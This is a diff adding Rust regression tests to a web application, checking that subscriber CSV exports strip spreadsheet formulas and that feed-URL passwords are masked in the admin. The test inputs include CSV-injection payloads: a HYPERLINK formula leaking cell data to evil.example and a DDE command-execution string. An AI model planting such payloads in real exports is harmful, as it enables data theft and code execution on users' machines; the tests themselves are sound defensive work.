@@ -825,3 +825,105 @@ async fn api_tokens_expire_show_last_use_and_die_with_passwd() {
     assert_eq!(get(lasting).await.unwrap().status(), 401);
     t.stop().await;
 }
+
+/// Whether any cell of `csv_text` would run as a spreadsheet formula.
+fn formula_cells(csv_text: &str) -> Vec<String> {
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(true)
+        .from_reader(csv_text.as_bytes());
+    reader
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']))
+        .collect()
+}
+
+/// Finding 9: names typed into the public sign-up form came out of the CSV export as
+/// live spreadsheet formulas. Every export (admin and CLI) now neutralises them.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn csv_exports_carry_no_spreadsheet_formulas() {
+    let Some(t) = TestApp::spawn(Backend::Sqlite).await else {
+        return;
+    };
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+    ];
+    for (i, name) in names.iter().enumerate() {
+        let res = t
+            .http
+            .post(t.url("/subscribe"))
+            .form(&[
+                ("email", format!("f{i}@example.org").as_str()),
+                ("name", name),
+            ])
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(res.status(), 200);
+    }
+    // The sign-up's own work may finish after the answer.
+    for _ in 0..100 {
+        if t.app.store.count_subscribers(None).await.unwrap() >= names.len() as i64 {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    add_user(&t.app, "op@example.org", AdminRole::Operator).await;
+    let mut op = Browser::new(&t);
+    op.login("op@example.org", PASSWORD).await;
+    let admin_csv = op.get("/admin/subscribers/export.csv").await;
+    assert_eq!(admin_csv.status, StatusCode::OK);
+    assert!(admin_csv.body.contains("SUM(1+1)"), "{}", admin_csv.body);
+    assert_eq!(formula_cells(&admin_csv.body), Vec::<String>::new());
+
+    let out = crate::helpers::breakfast_cmd(
+        &["subscribers", "export"],
+        &[
+            ("BREAKFAST_DATABASE_URL", t.db.url.as_str()),
+            ("BREAKFAST_SECRET", "test-secret-0123456789"),
+        ],
+        t.db.dir.path(),
+    );
+    let cli_csv = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(cli_csv.contains("SUM(1+1)"), "{cli_csv}");
+    assert_eq!(formula_cells(&cli_csv), Vec::<String>::new());
+    t.stop().await;
+}
+
+/// Finding 13: a password in a feed's URL was shown in clear on /admin/feeds.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn feed_url_passwords_are_masked_in_the_admin() {
+    let Some(t) = TestApp::spawn(Backend::Sqlite).await else {
+        return;
+    };
+    t.app
+        .store
+        .insert_feed(
+            "http://reader:hunter2-secret@127.0.0.1:9/private.xml",
+            "Members",
+            None,
+            t.app.now_ms(),
+        )
+        .await
+        .unwrap();
+    add_user(&t.app, "ed@example.org", AdminRole::Editor).await;
+    let mut ed = Browser::new(&t);
+    ed.login("ed@example.org", PASSWORD).await;
+    let page = ed.get("/admin/feeds").await;
+    assert_eq!(page.status, StatusCode::OK);
+    assert!(
+        page.body.contains("reader:***@127.0.0.1:9"),
+        "{}",
+        page.body
+    );
+    assert!(!page.body.contains("hunter2"), "{}", page.body);
+    t.stop().await;
+}
